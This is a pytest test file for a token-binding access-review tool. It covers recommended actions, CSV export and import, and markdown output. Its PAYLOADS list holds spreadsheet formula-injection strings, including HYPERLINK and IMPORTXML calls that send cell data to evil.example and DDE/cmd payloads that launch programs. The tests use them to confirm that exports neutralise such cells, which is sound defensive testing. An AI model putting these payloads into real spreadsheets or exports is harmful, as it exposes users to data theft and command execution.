"""Packet rows, recommended action, the CSV contract and its spreadsheet round trip."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest

from nhictl.errors import InputFileError
from nhictl.exporters.base import Column, Document, Format, exporter_for
from nhictl.review.csvread import read_rows, split_scopes, unneutralise
from nhictl.review.render import markdown
from nhictl.review.report import REVIEW_COLUMNS, build_rows, recommend, summarise

CONTRACT = (
    "binding_id, tenant, owner_id, owner_email, owner_status, workspace_id, workspace_name, "
    "slack_user_id, token_kind, purpose, granted_scopes, excess_scopes, status, "
    "last_validated_at, last_used_at, findings, max_severity, recommended_action, "
    "revoke_command, decision, reviewer, decided_at, justification"
)
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "=1+1",
    "=cmd|' /C notepad'!'A1'",
    '@IMPORTXML(CONCAT("http://evil.example/?", A1), "//a")',
    "-1+1|cmd",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
]


def binding(bid: str = "b-0000000001", **over: Any) -> dict[str, Any]:
    b: dict[str, Any] = {
        "id": bid, "source": "export", "tenant": "acme", "owner_id": "u1",
        "owner_email": "grace@example.com", "owner_status": "active", "workspace_id": "T1",
        "workspace_name": "Acme", "slack_user_id": "U1", "token_kind": "user",
        "purpose": ["notifications"], "granted_scopes": ["chat:write"], "status": "active",
        "last_validated_at": "2026-11-29T10:00:00Z", "last_used_at": None,
        "last_validation_outcome": "ok",
    }
    b.update(over)
    return b


def finding(rule: str, severity: str = "medium", bid: str = "b-0000000001",
            **evidence: Any) -> dict[str, Any]:
    return {"rule_id": rule, "severity": severity, "binding_id": bid,
            "message": f"Binding {bid} (owner x, workspace Acme (T1)) has {rule}.",
            "evidence": evidence, "suppressed": False}


@pytest.mark.parametrize(("rule", "action"), [
    ("owner_offboarded", "revoke"), ("dead_token_retained", "revoke"),
    ("token_shared", "revoke"), ("identity_mismatch", "revoke"),
    ("scope_exceeds_purpose", "reduce"), ("privileged_scope", "reduce"),
    ("legacy_scope", "reduce"), ("discovery_scope_retained", "reduce"),
    ("scope_expanded", "reduce"), ("validation_stale", "investigate"),
    ("dormant_binding", "investigate"), ("owner_missing", "investigate"),
    ("purpose_undeclared", "investigate"), ("cross_tenant_workspace", "investigate"),
    ("review_overdue", "keep"), ("token_never_expires", "keep"),
])
def test_recommended_action_per_rule(rule: str, action: str) -> None:
    rec = recommend(binding(), [finding(rule)])
    assert rec.action == action
    if action != "keep":
        assert rec.reason.startswith(f"{rule}: has {rule}")  # binding description stripped


def test_recommendation_precedence_dead_status_and_suppression() -> None:
    both = [finding("scope_exceeds_purpose", "high"), finding("owner_offboarded", "critical"),
            finding("validation_stale", "low")]
    assert recommend(binding(), both).action == "revoke"
    dead = recommend(binding(status="needs_reconnect", status_reason="slack: token_revoked"), [])
    assert dead.action == "revoke" and "token_revoked" in dead.reason
    assert recommend(binding(status="removed"), []).action == "revoke"
    assert recommend(binding(last_validation_outcome="inconclusive"), []).action == "investigate"
    muted = {**finding("owner_offboarded"), "suppressed": True}
    assert recommend(binding(), [muted]) .action == "keep"
    assert recommend(binding(), []).reason == "no findings that call for a change"


def test_rows_excess_scopes_severity_and_revoked_filter() -> None:
    bindings = [binding(), binding("b-0000000002", status="revoked", revoke_reason="left"),
                binding("b-0000000003", tenant="globex", granted_scopes=None)]
    findings = [
        finding("scope_exceeds_purpose", "high", excess=["users:read"]),
        finding("discovery_scope_retained", "medium", retained=["channels:read"]),
        {**finding("legacy_scope", "high", legacy=["read"]), "suppressed": True},
    ]
    rows = build_rows(bindings, findings)
    assert [r["binding_id"] for r in rows] == ["b-0000000001", "b-0000000003"]
    first = rows[0]
    assert first["excess_scopes"] == ["channels:read", "users:read"]
    assert first["findings"] == ["discovery_scope_retained", "scope_exceeds_purpose"]
    assert first["max_severity"] == "high" and first["recommended_action"] == "reduce"
    assert first["revoke_command"] == "nhictl revoke b-0000000001 --reason 'access review'"
    assert rows[1]["granted_scopes"] == [] and rows[1]["max_severity"] == ""
    everything = build_rows(bindings, findings, include_revoked=True)
    revoked = next(r for r in everything if r["binding_id"] == "b-0000000002")
    assert revoked["revoke_command"] == "" and revoked["recommended_action"] == "keep"
    summary = summarise(everything)
    assert summary["statuses"]["revoked"] == 1 and summary["statuses"]["active"] == 2
    assert summary["by_severity"]["high"] == 1  # the suppressed one is not counted
    assert summary["oldest_validation"]["binding_id"] == "b-0000000001"


def csv_text(rows: list[dict[str, Any]]) -> str:
    out = io.StringIO()
    doc = Document("bindings", [Column(k, k) for k in REVIEW_COLUMNS], rows, "now")
    exporter_for(Format.CSV).write(doc, out)
    return out.getvalue()


def test_csv_columns_exactly_as_design() -> None:
    assert ", ".join(REVIEW_COLUMNS).startswith(CONTRACT + ", ")  # issue 12 appends after
    text = csv_text(build_rows([binding()], []))
    assert text.split("\r\n")[0].startswith(CONTRACT.replace(", ", ",") + ",")
    assert text.endswith("\r\n")


def test_every_injection_payload_is_neutralised() -> None:
    rows = build_rows([binding(f"b-00000000{i:02d}", owner_email=p, owner_id=p,
                               workspace_name=p, tenant=p) for i, p in enumerate(PAYLOADS)], [])
    parsed = list(csv.reader(io.StringIO(csv_text(rows), newline="")))
    header, body = parsed[0], parsed[1:]
    assert len(body) == len(PAYLOADS)
    for cells in body:
        for cell in cells:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    owners = sorted(r[header.index("owner_email")] for r in body)
    # A bare CR arrives as a line break: on a terminal it would let a cell overwrite its line.
    sent = [p.replace("\r\n", "\n").replace("\r", "\n") for p in PAYLOADS]
    assert owners == sorted("'" + p for p in sent)
    assert sorted(unneutralise(o) for o in owners) == sorted(sent)


def _variants(text: str) -> dict[str, bytes]:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    header = rows[0]
    order = list(reversed(range(len(header))))

    def write(data: list[list[str]], **kw: Any) -> str:
        buf = io.StringIO()
        csv.writer(buf, **kw).writerows(data)
        return buf.getvalue()

    reordered = [[r[i] for i in order] + ["extra"] for r in rows]
    reordered[0][-1] = "Notes from Finance"
    return {
        "as_written": text.encode(),
        "bom": b"\xef\xbb\xbf" + text.encode(),
        "lf": text.replace("\r\n", "\n").encode(),
        "reordered_extra": write(reordered, lineterminator="\r\n").encode("utf-8-sig"),
        "trailing_empty": (text + ",,,\r\n\r\n" + ",".join([""] * len(header)) + "\r\n").encode(),
        "semicolon_excel": write(rows, delimiter=";", quoting=csv.QUOTE_ALL).encode("utf-8-sig"),
        "titlecase_header": write([[h.replace("_", " ").title() for h in header], *rows[1:]],
                                  lineterminator="\n").encode(),
    }


@pytest.mark.parametrize("variant", ["as_written", "bom", "lf", "reordered_extra",
                                     "trailing_empty", "semicolon_excel", "titlecase_header"])
def test_csv_round_trip_through_spreadsheet_variants(tmp_path: Path, variant: str) -> None:
    source = build_rows([
        binding("b-00000000a1", owner_email="=HYPERLINK(\"x\")", granted_scopes=["a:b", "c:d"]),
        binding("b-00000000a2", justification="multi\nline"),
    ], [])
    source[1]["decision"], source[1]["reviewer"] = "keep", "ann@example.com"
    source[1]["justification"] = "needed, per ticket SEC-1\r\nsecond line"
    path = tmp_path / "review.csv"
    path.write_bytes(_variants(csv_text(source))[variant])
    got = read_rows(path)
    assert [r.get("binding_id") for r in got] == ["b-00000000a1", "b-00000000a2"]
    assert got[0].get("owner_email") == "=HYPERLINK(\"x\")"  # the guard is stripped back
    assert split_scopes(got[0].get("granted_scopes")) == ["a:b", "c:d"]
    assert got[1].get("decision") == "keep" and got[1].get("reviewer") == "ann@example.com"
    assert got[1].get("justification").splitlines() == ["needed, per ticket SEC-1",
                                                       "second line"]
    assert got[0].line == 2 and got[1].line == 3


@pytest.mark.parametrize(("content", "message"), [
    (b"", "empty file"),
    (b"tenant,owner\r\nacme,x\r\n", "missing column(s): binding_id, decision, reviewer"),
    (b"binding_id,decision,reviewer\r\nb-1,keep,\xff\r\n", "line 2: not UTF-8"),
    (b"binding_id,decision,reviewer,decision\r\n", "duplicate column(s): decision"),
    (b"binding_id,decision,reviewer\r\nb-1,keep,a,surprise\r\n", "line 2: 4 cells"),
])
def test_unreadable_review_files(tmp_path: Path, content: bytes, message: str) -> None:
    path = tmp_path / "r.csv"
    path.write_bytes(content)
    with pytest.raises(InputFileError, match=message.replace("(", r"\(").replace(")", r"\)")):
        read_rows(path)


def test_markdown_groups_by_tenant_and_owner() -> None:
    rows = build_rows([binding("b-0000000001"), binding("b-0000000002", owner_email="z@x"),
                       binding("b-0000000003", tenant="globex", owner_email="a|b@x")], [])
    text = markdown(rows, summarise(rows), "2026-11-29T00:00:00Z")
    assert text.index("## Tenant acme") < text.index("### Owner grace@example.com") < text.index(
        "### Owner z@x") < text.index("## Tenant globex")
    assert "### Owner a\\|b@x" in text
    assert text.count("| `b-000000000") == 3
